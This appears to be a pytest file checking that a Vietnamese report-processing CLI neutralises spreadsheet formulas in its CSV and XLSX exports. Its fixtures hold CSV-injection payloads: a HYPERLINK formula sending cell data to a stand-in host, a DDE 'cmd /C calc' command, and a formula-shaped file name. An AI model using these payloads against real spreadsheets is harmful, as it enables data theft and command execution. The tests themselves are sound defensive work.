"""No spreadsheet runs what a report says: every way out of the store, tried with real formulas."""

import csv
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

EVIL = '=HYPERLINK("http://vi-du.vn/"&A1,"Xem")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
REPORT = f"""ỦY BAN NHÂN DÂN TỈNH KHÁNH HÒA
SỞ TÀI CHÍNH
Số: 12/BC-STC
Khánh Hòa, ngày 20 tháng 12 năm 2023

BÁO CÁO
{EVIL} năm 2023

Thực hiện Quyết định số 3/QĐ-UBND ngày /01/2023 của UBND tỉnh về {COMMAND}.

Biểu số II.06a/VPCP/KSTT
Kỳ báo cáo: Năm 2023
(từ 15/12/2022 đến 14/12/2023)

{{header}}
1\t{EVIL}\t9\t5\t3\t1\t7\t2\t5\t0\t2\t2\t0
2\t{COMMAND}\t5\t3\t2\t0\t5\t1\t4\t0\t0\t0\t0
\tTổng cộng\t14\t8\t5\t1\t12\t3\t9\t0\t2\t2\t0
"""
HEADER = (
    "STT\tLĩnh vực, công việc giải quyết theo cấp\tSố hồ sơ tiếp nhận\t\t\t\t"
    "Số lượng hồ sơ đã giải quyết\t\t\t\tSố lượng hồ sơ đang giải quyết\t\t\n"
    "\t\tTổng số\tTrong kỳ\t\tTừ kỳ trước\tTổng số\tTrước hạn\tĐúng hạn\tQuá hạn\tTổng số\t"
    "Trong hạn\tQuá hạn\n"
    "\t\t\tTrực tuyến\tTrực tiếp, dịch vụ bưu chính\t\t\t\t\t\t\t\t\n"
    + "\t".join(f"({n})" for n in range(1, 14))
)
NAME = "=1+cmd.txt"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("formulas")
    (home / NAME).write_text(REPORT.replace("{header}", HEADER), encoding="utf-8")
    trichluc(home, "ingest", NAME, "--ocr", "never")
    return home


def trichluc(home: Path, *words: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "cli", *words],
        cwd=home,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode in (0, 1), done.stderr
    return done.stdout


def runs(text: str) -> bool:
    """Tell whether a spreadsheet takes a CSV field for a formula; a number is none."""
    return (
        text[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not text.lstrip("+-").replace(".", "", 1).isdigit()
        and text != "-"
    )


def fields(text: str) -> Iterator[str]:
    for row in csv.reader(text.splitlines()):
        yield from row


EVERYTHING = (
    "SELECT file_name, title, text, row_label, context FROM documents JOIN blocks USING (doc_id) "
    "LEFT JOIN figures USING (doc_id) LEFT JOIN mentions USING (doc_id)"
)
PRINTED = {
    "sql": ("sql", EVERYTHING, "--format", "csv"),
    "documents": ("documents", "--format", "csv"),
    "findings": ("findings", "--format", "csv"),
    "decisions": ("decisions", "--format", "csv"),
    "status": ("status", "--period", "2023", "--format", "csv"),
}
WRITTEN = {
    "sql": ("sql", EVERYTHING, "--format", "csv", "-o", "a.csv"),
    "aggregate": ("aggregate", "II.06a", "--period", "2023", "--by", "field", "-o", "b.csv"),
    "export": ("export", "out", "--format", "csv"),
}
BOOKS = {
    "sql": ("sql", EVERYTHING, "--format", "xlsx", "-o", "a.xlsx"),
    "aggregate": ("aggregate", "II.06a", "--period", "2023", "--by", "field", "-o", "b.xlsx"),
}


@pytest.mark.parametrize("name", PRINTED)
def test_printed_rows_run_nothing(home: Path, name: str) -> None:
    told = list(fields(trichluc(home, *PRINTED[name])))
    assert told
    assert [text for text in told if runs(text)] == []


@pytest.mark.parametrize("name", WRITTEN)
def test_written_rows_run_nothing(home: Path, name: str) -> None:
    trichluc(home, *WRITTEN[name])
    place = home / WRITTEN[name][-1] if name != "export" else home / "out"
    files = [place] if place.is_file() else sorted(place.glob("*.csv"))
    told = [text for file in files for text in fields(file.read_text(encoding="utf-8-sig"))]
    assert any("HYPERLINK" in text for text in told)
    assert [text for text in told if runs(text)] == []


@pytest.mark.parametrize("name", BOOKS)
def test_a_workbook_runs_its_own_formulas_only(home: Path, name: str) -> None:
    trichluc(home, *BOOKS[name])
    book = openpyxl.load_workbook(home / BOOKS[name][-1])
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert any(EVIL in str(cell.value) for cell in cells)
    formulas = [str(cell.value) for cell in cells if cell.data_type == "f"]
    assert [text for text in formulas if "HYPERLINK" in text or "cmd" in text] == []
